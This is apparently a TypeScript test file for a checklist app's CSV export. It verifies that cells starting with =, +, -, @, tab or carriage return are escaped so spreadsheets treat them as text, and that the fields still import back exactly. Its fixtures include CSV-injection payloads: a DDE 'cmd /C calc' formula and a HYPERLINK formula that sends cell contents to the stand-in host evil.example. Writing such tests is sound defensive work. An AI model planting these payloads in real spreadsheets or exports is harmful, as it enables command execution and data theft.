// A checklist exported as CSV is safe to open in a spreadsheet and still reads back exactly:
// titles, descriptions, categories and people's names that a spreadsheet would run as formulas
// (=, +, -, @, tab, carriage return) reach it as text, and the import into another project, or
// into the same one, gives every field back as it was, apostrophes people really typed included.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Core } from '../../electron/core/core.ts';
import { CSV_TARGETS } from '../../shared/checklist/csv-format.ts';
import type { ImportPreview, ImportResult, Requirement } from '../../shared/checklist/types.ts';
import type { Customer, Person, ProjectDetail } from '../../shared/domain.ts';
import { dumpDatabase, openTestCore, removeTempDirs } from '../support/temp-store.ts';

let core: Core;
let people: Person[];

const call = <T>(method: string, input: unknown): T => core.call(method, input) as T;

function newProject(name: string): string {
  const customer = call<Customer>('customers.create', { name: `${name} customer` });
  const id = call<ProjectDetail>('projects.create', { customerId: customer.id, name }).project.id;
  for (const person of people) call('members.add', { projectId: id, personId: person.id });
  return id;
}

/**
 * The cells as a spreadsheet sees them: unquoted, nothing else taken off. Read here rather than
 * with shared/csv.ts, whose reader takes the protecting apostrophe off again.
 */
function spreadsheetCells(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (!quoted && (ch === delimiter || ch === '\n')) {
      cells.push(cell);
      cell = '';
    } else if (quoted || ch !== '\r') cell += ch;
  }
  return cells;
}

/** What the spreadsheet would run as a formula (OWASP's list of first characters). */
const FORMULA = /^[=+\-@\t\r]/;

const comparable = ({ id: _id, projectId: _p, createdAt: _c, ...rest }: Requirement) => rest;

beforeEach(() => {
  core = openTestCore();
  people = [
    call<Person>('people.create', { name: '=HYPERLINK("https://evil.example/?"&A1;"Details")', side: 'partner' }),
    call<Person>('people.create', { name: '@Jonas Weber', side: 'customer' }),
  ];
});
afterEach(() => {
  core.close();
  removeTempDirs();
});

describe('CSV export safety', () => {
  it('writes no cell a spreadsheet would run, and reads every field back exactly', () => {
    const projectId = newProject('Webmail 2027');
    const awkward = [
      { title: "=cmd|' /C calc'!A0", description: '@SUM(1+1)', category: '+Storage', responsibleId: people[0]!.id },
      { title: '@SUM(1+1)', description: '\t=1+1', category: '-', responsibleId: people[1]!.id },
      { title: '+49 40 1234 5678 anrufen', description: '\r\n=1+1 after a line break', category: "'" },
      { title: "-2+3+cmd|' /C calc'!A0", description: '- Port 993\n- Port 587', category: "'=A1" },
      { title: "'=1+1", description: "''=1+1", category: "''" },
      { title: "'Go-live' review", description: "'", category: '=A1' },
      { title: "'", description: '\r=1+1', category: '@home' },
    ];
    for (const fields of awkward) call('requirements.create', { projectId, ...fields });
    const first = call<Requirement[]>('requirements.list', { projectId })[0]!;
    call('requirements.comment', { id: first.id, text: '=cmd|calc' });
    const original = call<Requirement[]>('requirements.list', { projectId });
    expect(original.map((r) => r.title)).toEqual(awkward.map((a) => a.title));

    for (const [language, delimiter] of [['de', ';'], ['en', ',']] as const) {
      const { csv } = call<{ csv: string }>('requirements.exportCsv', { projectId, language, delimiter });
      const cells = spreadsheetCells(csv, delimiter);
      expect(cells).toHaveLength(CSV_TARGETS.length * (awkward.length + 1));
      expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
      expect(cells).toContain("'=cmd|' /C calc'!A0");
      expect(cells).toContain(`'=HYPERLINK("https://evil.example/?"&A1;"Details")`);
      // Comments are not part of the file.
      expect(csv).not.toContain('=cmd|calc');

      const target = newProject(`Copy ${language}`);
      const preview = call<ImportPreview>('requirements.previewImport', { projectId: target, csv });
      expect(preview).toMatchObject({ delimiter, creates: awkward.length, updates: 0, problems: [] });
      expect(call<ImportResult>('requirements.import', { projectId: target, csv, mapping: preview.mapping })).toEqual({ created: awkward.length, updated: 0, skipped: 0 });
      expect(call<Requirement[]>('requirements.list', { projectId: target }).map(comparable)).toEqual(original.map(comparable));

      // Into the same project every row names its own item and finds nothing to change.
      const before = dumpDatabase(core);
      expect(call<ImportResult>('requirements.import', { projectId, csv, mapping: preview.mapping })).toEqual({ created: 0, updated: awkward.length, skipped: 0 });
      expect(dumpDatabase(core)).toEqual(before);
    }
  });
});
